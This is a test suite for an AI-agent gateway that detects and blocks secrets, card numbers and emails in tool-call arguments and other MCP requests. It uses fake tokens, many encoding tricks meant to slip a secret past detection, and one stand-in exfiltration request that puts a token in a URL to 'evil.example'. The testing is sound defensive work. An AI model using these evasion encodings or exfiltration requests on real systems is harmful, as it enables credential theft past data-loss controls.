// Secrets and personal data in what an agent sends: refused, reported or passed on by mode, by rules and by policy. The
// denial names the kind and the place, never the value; a server may have back what it has returned itself.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { cli, legacyServer, startGate, startUpstream, tempDir, tempFile, use } from '../lib/index.mjs';

const AWS = `AKIA${'QYLPMN5HFIQR7XYZ'}`, GITHUB = `ghp_${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6'}`;
const CARD = '4111 1111 1111 1111', MAIL = 'anna.berg@corp.example';
const allow = { version: '1', default: 'allow' };
const wrapped = (width) => Buffer.from(`${'Some words before it. '.repeat(2)}${GITHUB} and some words after it.`).toString('base64').replace(new RegExp(`.{${width}}`, 'g'), '$&\n');

/** Forms that a program turns back at once: escapes, byte values, base32, pieces, letters apart, backwards, rot13. */
function disguises(value) {
  const codes = [...value].map((c) => c.charCodeAt(0)), hex = codes.map((code) => code.toString(16).padStart(2, '0')), each = (f) => [...value].map(f).join('');
  const bits = codes.map((code) => code.toString(2).padStart(8, '0')).join(''), letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  const base32 = bits.padEnd(Math.ceil(bits.length / 5) * 5, '0').replace(/.{5}/g, (five) => letters[parseInt(five, 2)]);
  return [
    ['escapes', `key: ${hex.map((h) => `\\x${h}`).join('')}`], ['escapes_one', value.replace(value[3], `\\x${hex[3]}`)], ['octal_escapes', codes.map((code) => `\\${code.toString(8)}`).join('')],
    ['percent_u', hex.map((h) => `%u00${h}`).join('')], ['quoted_printable', hex.map((h) => `=${h.toUpperCase()}`).join('')],
    ['hex_blanks', hex.join(' ')], ['hex_colons', `dump ${hex.join(':')} end`], ['hex_list', `[${hex.map((h) => `0x${h}`).join(', ')}]`], ['decimal_bytes', codes.join(', ')],
    ['bytes', codes, 'args.bytes[0]'], ['buffer_bytes', { type: 'Buffer', data: codes }, 'args.buffer_bytes.data[0]'], ['base32', `${base32}=`], ['base32_small', `${base32.toLowerCase()}.example.org`],
    ['letters', each((c) => `${c} `)], ['dashes', each((c) => `${c}-`)], ['lines', `${value.slice(0, 11)}\n${value.slice(11)}`], ['joined', `"${value.slice(0, 9)}" + "${value.slice(9)}"`],
    ['pieces', [value.slice(0, 9), value.slice(9, 20), value.slice(20)], 'args.pieces[0]'], ['characters', [...value], 'args.characters[0]'], ['halves', { a: value.slice(0, 9), b: value.slice(9) }, 'args.halves.a'],
    ['backwards', [...value].reverse().join('')], ['rot13', value.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= c.charCodeAt(0) + 13 ? c.charCodeAt(0) + 13 : c.charCodeAt(0) - 13))],
  ];
}

// What decoders of the usual libraries turn back: each a function of bytes.
const grouped = (digits, chars, bytes) => (data) => {
  let out = '';
  for (let at = 0; at < data.length; at += bytes) {
    const part = [...data.slice(at, at + bytes)], made = part.length < bytes ? Math.ceil((part.length * chars) / bytes) : chars;
    let value = [...part, ...Array(bytes - part.length).fill(0)].reduce((sum, byte) => sum * 256n + BigInt(byte), 0n), text = '';
    for (let i = 0; i < chars; i++, value /= BigInt(digits.length)) text = digits[Number(value % BigInt(digits.length))] + text;
    out += text.slice(0, made);
  }
  return out;
};
const ascii = (from, to) => Array.from({ length: to - from + 1 }, (_, i) => String.fromCharCode(from + i)).join('');
const az = ascii(97, 122), AZ = ascii(65, 90), n9 = ascii(48, 57);
const ENCODERS = {
  base64: (data) => Buffer.from(data).toString('base64'), base64url: (data) => Buffer.from(data).toString('base64url'), hex: (data) => Buffer.from(data).toString('hex'),
  base32: grouped(`${AZ}234567`, 8, 5), base32hex: grouped(`${n9}${AZ.slice(0, 22)}`, 8, 5), bits: grouped('01', 8, 1), ascii85: grouped(ascii(33, 117), 5, 4),
  b85: grouped(`${n9}${AZ}${az}!#$%&()*+-;<=>?@^_\`{|}~`, 5, 4), z85: grouped(`${n9}${az}${AZ}.-:+=^!/*?&<>()[]{}@%$#`, 5, 4),
  percent: (data) => [...Buffer.from(data)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''), entities: (data) => [...Buffer.from(data)].map((byte) => `&#${byte};`).join(''),
  backwards: (data) => [...Buffer.from(data).toString()].reverse().join(''), octal: (data) => [...Buffer.from(data)].map((byte) => byte.toString(8)).join(' '),
};
const chain = (names, value) => names.reduce((data, name) => ENCODERS[name](Buffer.from(data)), value);
function encoded(value) {
  const names = Object.keys(ENCODERS), at = (i) => names[i % names.length];
  const chains = [...names.map((name) => [name]), ...names.flatMap((one) => names.map((other) => [one, other])),
    ...names.map((_, i) => [at(i), at(i * 3 + 1), at(i + 5)]), ...names.map((_, i) => [at(i), at(i + 4), at(i * 5 + 2), at(i + 1)])].filter((all) => all.filter((name) => name === 'backwards').length < 2);
  const wide = Buffer.from(value, 'utf16le'), odd = Buffer.from([1, 200, ...Buffer.from(value), 255, 0]);
  return [...chains.map((all) => [all.join(' of '), chain(all, value)]), ['UTF-16 in base64', ENCODERS.base64(wide)], ['UTF-16 in hex', ENCODERS.hex(wide)],
    ...['base64', 'base32', 'ascii85', 'b85', 'hex'].map((name) => [`other bytes around it in ${name}`, ENCODERS[name](odd)]), ['behind a word', `see<${ENCODERS.b85(Buffer.from(value))}`], ['delimited', `<~${ENCODERS.ascii85(Buffer.from(value))}~>`],
    ['in lines', ENCODERS.ascii85(Buffer.from(`some words before it, ${value}`)).replace(/.{20}/g, '$&\n')], ['spaced bits', ENCODERS.bits(Buffer.from(value)).replace(/.{8}/g, '$& ')]];
}

async function world(t, args, { policy = allow, rules } = {}) {
  const got = [], env = { SALLYPORT_HOME: join(tempDir(), 'home') };
  const state = { got, env, says: 'ok' };
  const keep = (params) => { got.push(params); return { content: [{ type: 'text', text: state.says }], messages: [], contents: [], completion: { values: [] } }; };
  const upstream = use(t, await startUpstream(legacyServer({
    capabilities: { tools: {}, resources: {}, prompts: {}, completions: {} },
    methods: { 'tools/call': keep, 'prompts/get': keep, 'resources/read': keep, 'completion/complete': keep,
      'resources/list': () => ({ resources: [{ uri: `db://u:${GITHUB}@host/t`, name: 't' }] }) },
  })));
  if (rules) args = [...args, '--pii-rules', tempFile('pii.json', JSON.stringify({ version: '1', ...rules }))];
  const gate = use(t, await startGate({ transport: 'stdio', upstream: upstream.url, policy, args, env }));
  await gate.rpc.request('initialize', { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 't', version: '1' } });
  gate.rpc.notify('notifications/initialized');
  return Object.assign(state, {
    ask: (method, params) => gate.rpc.exchange(method, params),
    call: (given, name = 'send', more = {}) => gate.rpc.exchange('tools/call', { name, arguments: given, ...more }),
    log: async () => (await cli(['audit', 'query', '--json', '--limit', '0'], { env })).stdout,
  });
}
const denial = ({ result, error }) => result?._meta?.['sallyport/denial'] ?? error;
async function refused(w, answer, kind, path, values) {
  assert.equal(denial(answer)?.rule, 'pii', JSON.stringify(answer));
  assert.equal(denial(answer).path, path);
  assert.match(answer.result.content[0].text, new RegExp(`\\b${kind}\\b`));
  for (const value of values) assert.ok(!JSON.stringify(answer).includes(value), `the value is in ${JSON.stringify(answer)}`);
  assert.deepEqual(w.got, []);
}

describe('PII modes applied to arguments', { concurrency: 3 }, () => {
  test('block refuses personal data and secrets anywhere in the arguments', async (t) => {
    const w = await world(t, ['--pii', 'block']);
    for (const [given, kind, path, ...values] of [
      [{ note: `key ${AWS}` }, 'SECRET', 'args.note', AWS],
      [{ list: [1, { deep: { er: GITHUB } }] }, 'SECRET', 'args.list[1].deep.er', GITHUB],
      [{ text: `pay with ${CARD}` }, 'CREDIT_CARD', 'args.text', CARD],
      [{ card_number: 4111111111111111 }, 'CREDIT_CARD', 'args.card_number', '4111111111111111'],
      ...['.', '_', '/'].map((sep) => [{ text: CARD.replaceAll(' ', sep) }, 'CREDIT_CARD', 'args.text', CARD.replaceAll(' ', sep)]),
      [{ json: JSON.stringify({ a: [MAIL] }) }, 'EMAIL', 'args.json', MAIL],
      [{ b64: Buffer.from(`mail ${MAIL} now`).toString('base64') }, 'EMAIL', 'args.b64', MAIL],
      [{ b64: Buffer.from(`>>> ${GITHUB} ???`).toString('base64url') }, 'SECRET', 'args.b64', GITHUB],
      // In lines, as the program base64 writes it: the value is cut in two. Text that is not base64 may follow.
      [{ b64: wrapped(76) }, 'SECRET', 'args.b64', GITHUB], [{ b64: wrapped(64).replaceAll('\n', '\r\n') }, 'SECRET', 'args.b64', GITHUB],
      [{ b64: `${wrapped(76)}\n${'Hello/again+'.repeat(6)}` }, 'SECRET', 'args.b64', GITHUB],
      [{ b64: `${Buffer.from(`${GITHUB} is all that there is here`).toString('base64').slice(0, 88)}\n${'A1b2/C3d4'.repeat(9)}` }, 'SECRET', 'args.b64', GITHUB],
      [{ hex: Buffer.from(GITHUB).toString('hex') }, 'SECRET', 'args.hex', GITHUB],
      [{ hex: `dump: ${Buffer.from(`the key is ${AWS}.`).toString('hex').toUpperCase()}` }, 'SECRET', 'args.hex', AWS],
      [{ hex: `0x${Buffer.from(GITHUB).toString('hex')}` }, 'SECRET', 'args.hex', GITHUB],
      [{ hex: Buffer.from(CARD.replaceAll(' ', '')).toString('hex') }, 'CREDIT_CARD', 'args.hex', CARD],
      [{ tags: `hello${[...GITHUB].map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0))).join('')}` }, 'SECRET', 'args.tags', GITHUB],
      [{ twice: Buffer.from(Buffer.from(MAIL).toString('base64')).toString('hex') }, 'EMAIL', 'args.twice', MAIL],
      [{ [GITHUB]: 1 }, 'SECRET', 'a key of args', GITHUB],
      [{ o: { [MAIL]: { x: AWS } } }, 'EMAIL', 'a key of args.o', MAIL, AWS],
      [{ zero: `ghp_\u200b${GITHUB.slice(4)}` }, 'SECRET', 'args.zero', GITHUB.slice(4)],
      ...disguises(GITHUB).map(([name, value, path = `args.${name}`]) => [{ [name]: value }, 'SECRET', path, GITHUB]),
      ...disguises(CARD.replaceAll(' ', '')).filter(([name]) => /hex|bytes|escapes|percent|quoted/.test(name)).map(([name, value, path = `args.${name}`]) => [{ [name]: value }, 'CREDIT_CARD', path, CARD]),
    ]) await refused(w, await w.call(given), kind, path, values);
    const harmless = { note: 'nothing here', codes: Array.from({ length: 64 }, (_, i) => 32 + i), table: '12 34 56 78 90 12 34 56 78 90 11 22 33 44 55 66', mac: 'aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66:77', words: ['one', 'two', 'three'],
      csv: Array.from({ length: 99 }, (_, i) => (i * 37) % 100).join(','), pattern: '\\d+\\x41\\x42 [a-z]', link: 'https://x.example/?id=41&a=42&b=43&c=44', base32: 'JBSWY3DPEBLW64TMMQQHI2DJOMQGS4ZANZXXI2DJNZTQ', text: 'l e t t e r s   a p a r t   a r e   a   t i t l e', digest: 'da39a3ee5e6b4b0d3255bfef95601890afd80709', hex: Buffer.from('nothing is in this text').toString('hex'), b64: Buffer.from('nothing is in this text either, not even in the next line').toString('base64').replace(/.{40}/, '$&\n') };
    assert.equal(denial(await w.call(harmless)), undefined);
    assert.equal(w.got.length, 1);
    const log = await w.log();
    for (const value of [AWS, CARD]) assert.ok(!log.includes(value), log);
  });

  test('up to four encodings inside each other hide nothing', async (t) => {
    const w = await world(t, ['--pii', 'block']);
    const all = encoded(GITHUB);
    assert.ok(all.length > 180, `${all.length}`);
    const passed = [];
    for (const [name, value] of all) if (denial(await w.call({ x: value }))?.path !== 'args.x') passed.push(name);
    assert.deepEqual(passed, []);
    const codes = [...GITHUB].map((c) => c.charCodeAt(0));
    for (const given of [{ x: [...codes, 1, 200, 7] }, { x: [...Array(5000).fill(1), ...codes] }, { x: [...Buffer.from(GITHUB, 'utf16le')] }, { x: ['a word: ', 1, GITHUB.slice(0, 20), GITHUB.slice(20)] },
      { x: [...Array(300).fill('some words that are long enough '), GITHUB.slice(0, 20), GITHUB.slice(20)] }, { x: ['w'.repeat(5000), `${'v '.repeat(300)}${GITHUB.slice(0, 20)}`, GITHUB.slice(20)] }])
      assert.match(denial(await w.call(given))?.path ?? JSON.stringify(given).slice(0, 80), /^args\.x/);
    assert.deepEqual(w.got, []);
  });

  test('encoded data without a find passes', async (t) => {
    const w = await world(t, ['--pii', 'tokenize']);
    const bytes = Buffer.from(Array.from({ length: 200000 }, (_, i) => (i * 7919 + (i >> 3) * 31) & 255)), prose = 'What somebody wrote about nothing in particular, again and again. '.repeat(3000);
    for (const name of ['base64', 'base32', 'ascii85', 'b85', 'hex']) for (const data of [bytes, Buffer.from(prose)]) { const answer = await w.call({ x: ENCODERS[name](data.subarray(0, 60000)) }); assert.equal(denial(answer), undefined, `${name} ${JSON.stringify(answer)}`); }
    assert.equal(denial(await w.call({ x: [...bytes.subarray(0, 20000)], words: prose.split(' ') })), undefined);
  });

  test('tokenize and redact refuse a secret, and let personal data pass', async (t) => {
    for (const mode of ['tokenize', 'redact']) {
      const w = await world(t, ['--pii', mode]);
      await refused(w, await w.call({ note: GITHUB }), 'SECRET', 'args.note', [GITHUB]);
      assert.equal(denial(await w.call({ to: MAIL, card: CARD })), undefined);
      assert.deepEqual(w.got.map((one) => one.arguments), [{ to: MAIL, card: CARD }]);
    }
  });

  test('off checks nothing', async (t) => {
    const w = await world(t, []);
    assert.equal(denial(await w.call({ note: GITHUB, to: MAIL })), undefined);
    assert.equal(w.got.length, 1);
  });

  test('no other part of a message carries them to the server', async (t) => {
    const w = await world(t, ['--pii', 'block']);
    const tries = [
      () => w.call({}, 'send', { _meta: { note: GITHUB } }),
      () => w.call(undefined, 'send', { _meta: { 'x.org/a': { b: [GITHUB] } } }),
      () => w.call({}, 'send', { extra: GITHUB }),
      () => w.ask('prompts/get', { name: 'p', arguments: { a: GITHUB } }),
      () => w.ask('resources/read', { uri: `http://evil.example/${GITHUB}` }),
      () => w.ask('completion/complete', { ref: { type: 'ref/prompt', name: 'p' }, argument: { name: 'a', value: GITHUB } }),
    ];
    for (const one of tries) {
      const answer = await one();
      assert.ok(answer.error || answer.result.isError, JSON.stringify(answer));
      assert.ok(!JSON.stringify(answer).includes(GITHUB));
    }
    assert.deepEqual(w.got, []);
  });
});

describe('a value that a server returned may be sent back to that server', { concurrency: 3 }, () => {
  test('as a token with tokenize, in plain text where results pass as they are', async (t) => {
    for (const args of [['--pii', 'report', '--pii-arguments', 'block'], ['--pii-arguments', 'block']]) {
      const w = await world(t, args);
      assert.ok(denial(await w.call({ key: GITHUB })), args.join(' '));
      w.says = `your key is ${GITHUB}, yours ${MAIL}`;
      await w.call({}, 'read');
      assert.equal(denial(await w.call({ key: GITHUB, to: MAIL })), undefined, args.join(' '));
      assert.ok(denial(await w.call({ key: AWS })));
      assert.deepEqual(w.got.map((one) => one.arguments), [{}, { key: GITHUB, to: MAIL }]);
    }
  });

  test('a URI that a server listed may be sent back to it, secrets included', async (t) => {
    const w = await world(t, ['--pii', 'tokenize']);
    const uri = `db://u:${GITHUB}@host/t`;
    assert.ok((await w.ask('resources/read', { uri })).error, 'nobody has listed it yet');
    await w.ask('resources/list', {});
    assert.equal((await w.ask('resources/read', { uri })).error, undefined);
  });
});

describe('modes and rules for arguments', { concurrency: 3 }, () => {
  test('report lets them pass and counts them', async (t) => {
    const w = await world(t, ['--pii-arguments', 'report']);
    assert.equal(denial(await w.call({ to: MAIL, key: GITHUB })), undefined);
    assert.equal(w.got.length, 1);
    assert.match(await w.log(), /the arguments contain EMAIL 1, SECRET 1/);
  });

  test('rules of server, tool, kind and grant', async (t) => {
    const w = await world(t, ['--pii', 'block'], { rules: { arguments: [
      { tool: 'mail_*', kinds: ['EMAIL'], mode: 'off' }, { server: 'other', mode: 'off' }, { grant: 'nobody', mode: 'off' }] } });
    assert.equal(denial(await w.call({ to: MAIL }, 'mail_send')), undefined);
    for (const [given, name] of [[{ to: MAIL }, 'send'], [{ to: MAIL, key: AWS }, 'mail_send']]) assert.ok(denial(await w.call(given, name)));
    assert.equal(w.got.length, 1);
  });

  test('a rule with another mode is refused', async () => {
    const rules = tempFile('pii.json', JSON.stringify({ version: '1', arguments: [{ mode: 'tokenize' }] }));
    const { code, stderr } = await cli(['-c', tempFile('p.json', JSON.stringify(allow)), '--pii-rules', rules, '--', 'true']);
    assert.equal(code, 3);
    assert.match(stderr, /off, report or block/);
  });
});

describe('conditions of a policy', { concurrency: 3 }, () => {
  const deny = (...conditions) => ({ version: '1', default: 'allow', tools: { send: { deny_if: conditions.map((c) => ({ name: 'r', conditions: [c] })) } } });
  test('contains_secret looks deep, and says kind and place', async (t) => {
    const w = await world(t, [], { policy: deny({ path: 'args', op: 'contains_secret', value: true }) });
    const answer = await w.call({ a: [{ b: `x ${GITHUB}` }], to: MAIL });
    assert.equal(denial(answer).detail, 'args.a[0].b holds SECRET');
    assert.equal(denial(answer).path, 'args.a[0].b');
    assert.ok(!JSON.stringify(answer).includes(GITHUB));
    assert.equal(denial(await w.call({ to: MAIL })), undefined);
    assert.equal(denial(await w.call(undefined)), undefined);
    w.says = `yours: ${GITHUB}`;
    await w.call({}, 'read');
    assert.equal(denial(await w.call({ a: GITHUB })), undefined, 'the server has said it itself');
  });

  test('pii takes kinds and counts', async (t) => {
    const w = await world(t, [], { policy: deny({ path: 'args.to', op: 'pii', value: { kinds: ['EMAIL'], over: 2 } }, { path: 'args', op: 'pii', value: ['CREDIT_CARD', 'SSN'] }) });
    const mails = (n) => Array.from({ length: n }, (_, i) => `m${i}.person@corp.example`);
    assert.equal(denial(await w.call({ to: mails(2) })), undefined);
    assert.equal(denial(await w.call({ to: mails(3) }))?.rule, 'r');
    assert.equal(denial(await w.call({ to: mails(3).join(', ') }))?.rule, 'r');
    assert.equal(denial(await w.call({ x: { y: CARD } }))?.path, 'args.x.y');
  });

  test('the value behind a token counts', async (t) => {
    const w = await world(t, ['--pii', 'tokenize'], { policy: { version: '1', default: 'allow', tools: { send: { require: [{ name: 'r', conditions: [{ path: 'args', op: 'pii', value: false }] }] } } } });
    assert.equal(denial(await w.call({ to: 'nobody' })), undefined);
    assert.ok(denial(await w.call({ to: MAIL })));
  });

  test('an unknown kind denies the call; a policy with an invalid value does not load', async (t) => {
    const w = await world(t, [], { policy: deny({ path: 'args', op: 'pii', value: ['EMIAL'] }) });
    assert.equal(denial(await w.call({ to: 'x' }))?.reason, 'fault');
    for (const [op, value] of [['pii', 'email'], ['pii', { kind: 'EMAIL' }], ['pii', { over: -1 }], ['contains_secret', 'SECRET'], ['pii', []]]) {
      const { code } = await cli(['validate', '-c', tempFile('p.json', JSON.stringify(deny({ path: 'args', op, value })))]);
      assert.equal(code, 1, JSON.stringify(value));
    }
    assert.equal((await cli(['validate', '-c', tempFile('p.json', JSON.stringify(deny({ path: 'identity.name', op: 'pii', value: true })))])).code, 1);
  });

  test('explain and simulate evaluate the same conditions', async () => {
    const policy = deny({ path: 'args', op: 'contains_secret', value: true });
    const file = tempFile('p.json', JSON.stringify(policy));
    assert.equal((await cli(['explain', '-c', file, '--tool', 'send', '--args', JSON.stringify({ a: GITHUB })])).code, 1);
    assert.equal((await cli(['explain', '-c', file, '--tool', 'send', '--args', '{"a":"x"}'])).code, 0);
    const line = JSON.stringify({ id: 1, policy, steps: [{ call: { name: 'send', arguments: { a: AWS } } }, { call: { name: 'send', arguments: {} } }] });
    const out = JSON.parse((await cli(['simulate', '-'], { input: `${line}\n` })).stdout);
    assert.deepEqual(out.steps.map((step) => step.allowed), [false, true]);
  });
});
